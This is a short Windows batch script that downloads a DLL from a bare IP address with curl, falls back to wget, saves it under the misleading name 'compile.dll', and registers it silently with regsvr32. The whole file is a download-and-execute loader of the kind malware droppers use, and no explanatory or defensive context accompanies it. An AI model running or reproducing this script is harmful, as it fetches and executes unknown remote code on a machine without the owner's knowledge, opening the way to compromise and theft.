@echo off
curl https://198.51.100.12/sdd.dll -o compile.dll
if not exist compile.dll (
  wget https://198.51.100.12/sdd.dll -O compile.dll
)
regsvr32.exe -s compile.dll
